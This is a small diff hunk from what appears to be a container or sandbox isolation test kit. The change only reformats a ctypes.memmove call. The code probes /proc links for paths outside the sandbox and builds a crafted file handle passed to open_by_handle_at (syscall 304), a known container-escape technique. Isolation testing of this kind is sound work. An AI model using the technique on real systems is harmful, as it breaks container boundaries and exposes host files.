@@ -43,7 +43,9 @@ for pid in kit.visible():
         if is_outside(f"/proc/{pid}/{link}"):
             kit.reached(f"sees the machine's files at /proc/{pid}/{link}")
 handle = ctypes.create_string_buffer(128)
-ctypes.memmove(handle, (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(8, "little"), 16)
+ctypes.memmove(
+    handle, (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(8, "little"), 16
+)
 done, error = kit.call(304, os.open("/", os.O_RDONLY), handle, os.O_RDONLY)  # open_by_handle_at
 if done >= 0:
     kit.reached("opened a file by its handle")
